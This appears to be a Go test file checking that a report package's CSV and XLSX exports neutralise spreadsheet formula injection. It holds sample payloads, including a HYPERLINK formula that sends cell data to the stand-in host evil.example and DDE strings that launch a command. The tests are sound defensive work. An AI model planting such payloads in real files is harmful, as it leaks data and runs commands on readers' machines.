package report

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// hostile are names a spreadsheet would run as formulas.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`,
	"+84 912 000 001",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
}

// hostileReport names every unit and officer of the fixture with one of
// the hostile strings.
func hostileReport(t *testing.T) *Report {
	t.Helper()
	in := fixtureInput()
	for i := range in.Units {
		in.Units[i].Name = hostile[i%len(hostile)]
	}
	for i := range in.Officers {
		in.Officers[i].Name = hostile[i%len(hostile)]
	}
	return mustBuild(t, in)
}

// The CSV neutralises the text cells and keeps figures numbers; the XLSX
// of the same report keeps the names as they are, as strings, never as
// formulas. Both files are opened as a spreadsheet reader would.
func TestFormulaInjection(t *testing.T) {
	r := hostileReport(t)
	var b bytes.Buffer
	if err := RenderCSV(&b, r); err != nil {
		t.Fatal(err)
	}
	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\uFEFF")))
	cr.FieldsPerRecord = -1
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, rec := range recs {
		for i, cell := range rec {
			if cell == "" {
				continue
			}
			switch cell[0] {
			case '=', '+', '-', '@', '\t', '\r':
				t.Errorf("CSV cell %q starts a formula", cell)
			case '\'':
				seen[cell[1:]] = true
			default:
				// Figure columns (after the name columns) are plain numbers:
				// from the 6th in the units table (rank, peer group, code,
				// name, parent), the 5th in the officers table.
				first := 4
				if len(rec) == len(UnitHeaders) {
					first = 5
				}
				if i >= first && len(rec) > 4 && rec[0] != "Hạng" && rec[0] != "STT" {
					if _, err := strconv.ParseFloat(cell, 64); err != nil {
						t.Errorf("CSV figure %q (column %d) is not a number", cell, i+1)
					}
				}
			}
		}
	}
	for _, h := range hostile {
		// encoding/csv drops a lone carriage return when it writes CRLF.
		if !seen[strings.ReplaceAll(h, "\r", "")] {
			t.Errorf("CSV lacks the neutralised %q", h)
		}
	}

	f := openXLSX(t, r)
	found := map[string]bool{}
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for y, row := range rows {
			for x, v := range row {
				cell := cellName(x+1, y+1)
				if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
					t.Errorf("%s!%s holds a formula %q", sheet, cell, formula)
				}
				for _, h := range hostile {
					if v != h {
						continue
					}
					found[h] = true
					typ, err := f.GetCellType(sheet, cell)
					if err != nil {
						t.Fatal(err)
					}
					if typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
						t.Errorf("%s!%s %q has type %v, want a string", sheet, cell, v, typ)
					}
				}
			}
		}
	}
	for _, h := range hostile {
		if !found[h] {
			t.Errorf("XLSX lacks %q as written", h)
		}
	}
}

// A negative figure is a number and stays one (the OWASP rule quotes text
// cells only).
func TestCSVNumbersStayNumbers(t *testing.T) {
	if got := ftoa(-5); got != "-5.00" {
		t.Errorf("ftoa(-5) = %q", got)
	}
	if got := itoa(-5); got != "-5" {
		t.Errorf("itoa(-5) = %q", got)
	}
	if got := text("-5"); got != "'-5" {
		t.Errorf("text(-5) = %q: a text cell is always neutralised", got)
	}
}
